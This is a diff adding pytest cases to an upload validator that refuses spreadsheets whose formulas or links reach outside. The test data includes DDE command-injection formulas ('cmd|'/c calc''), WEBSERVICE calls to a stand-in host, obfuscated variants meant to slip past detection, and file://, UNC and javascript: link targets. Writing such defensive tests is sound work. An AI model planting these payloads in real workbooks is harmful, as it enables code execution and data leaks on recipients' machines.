@@ -29,6 +29,7 @@ from tests.market_reports.contents.samples import (
 SCRIPT = "The PDF contains a script or starts a program."
 UNUSUAL = "The PDF is packed in an unusual way: print it to a new PDF."
 DAMAGED = "The PDF is damaged: save it again."
+ASKS = "A formula of the workbook asks another program or a web address."
 TORN = "The workbook is damaged: save it again."
 MACROS = "The workbook contains macros, controls or objects of other programs."
 WRONG = "The content of this file is not of its type."
@@ -274,6 +275,70 @@ def test_a_relationship_to_something_active_or_outside_is_refused(relation: byte
     before = part_of(workbook(), RELATIONS)
     after = before.replace(b"</Relationships>", b'<Relationship Id="rId99" ' + relation + b"/></Relationships>")
     assert reason(XLSX, workbook(**{name: after})) == MACROS
+
+
+def with_formula(element: str, *, name: str = "xl/worksheets/sheet1.xml") -> bytes:
+    sheet = part_of(workbook(), "xl/worksheets/sheet1.xml")
+    row = f'<sheetData><row r="900"><c r="A900">{element}</c></row>'.encode()
+    return workbook(**{name: sheet.replace(b"<sheetData>", row)})
+
+
+@pytest.mark.parametrize(
+    "element",
+    [
+        '<f>WEBSERVICE("https://x.example/"&amp;A1)</f>',
+        '<f t="str">1+_xlfn.image ("https://x.example/p.png")</f>',
+        "<f>&#87;EBSERVICE(A1)</f>",
+        "<x:f>cmd|&apos;/c calc&apos;!A1</x:f>",
+        "<f>WEB<!-- -->SERVICE(A1)</f>",
+        "<f><![CDATA[WEBSERVICE(A1)]]></f>",
+        '<formula1>RTD("x",,"y")</formula1>',
+        "<f>" + "A1+" * 2_700 + "DDE(A1)</f>",
+    ],
+)
+@pytest.mark.parametrize("name", ["xl/worksheets/sheet1.xml", "xl/oddly.dat"])
+def test_a_formula_that_asks_outside_is_refused(element: str, name: str) -> None:
+    assert reason(XLSX, with_formula(element, name=name)) == ASKS
+
+
+@pytest.mark.parametrize(
+    "element",
+    [
+        "<f>SUM(A1:A9)*IMAGES_SOLD</f>",
+        "<f>&quot;WEBSERVICE(a|b)&quot;&amp;'a|b'!A1</f>",
+        "<f>RECALL(A1)+CALLS</f>",
+        '<is><t>WEBSERVICE("https://x.example") | DDE(1)</t></is>',
+    ],
+)
+def test_another_formula_and_a_text_about_one_pass(element: str) -> None:
+    assert reason(XLSX, with_formula(element)) is None
+
+
+def test_a_formula_is_found_wherever_the_part_is_cut() -> None:
+    formula = '<f>WEBSERVICE("https://x.example")</f>'
+    for short in range(0, len(formula) + 40, 7):
+        filling = f"<v>{'1' * (1_000_000 - 2_000 - short)}</v>"
+        assert reason(XLSX, with_formula(filling + formula)) == ASKS, short
+
+
+@pytest.mark.parametrize(
+    ("target", "found"),
+    [
+        ("https://x.example/", None),
+        ("mailto:a@x.example", None),
+        ("prices.pdf", None),
+        ("file:///c:/x", MACROS),
+        ("\\\\host\\share", MACROS),
+        ("//host/share", MACROS),
+        ("javascript:x", MACROS),
+        ("ms-word:ofe|u|x", MACROS),
+    ],
+)
+def test_a_link_to_click_leads_to_the_web_or_to_a_mailbox(target: str, found: str | None) -> None:
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+    link = f'<Relationship Id="rId99" Type="{kind}" TargetMode="External" Target="{target}"/></Relationships>'
+    after = part_of(workbook(), RELATIONS).replace(b"</Relationships>", link.encode())
+    assert reason(XLSX, workbook(**{RELATIONS: after})) == found
 
 
 @pytest.mark.filterwarnings("ignore:Duplicate name")
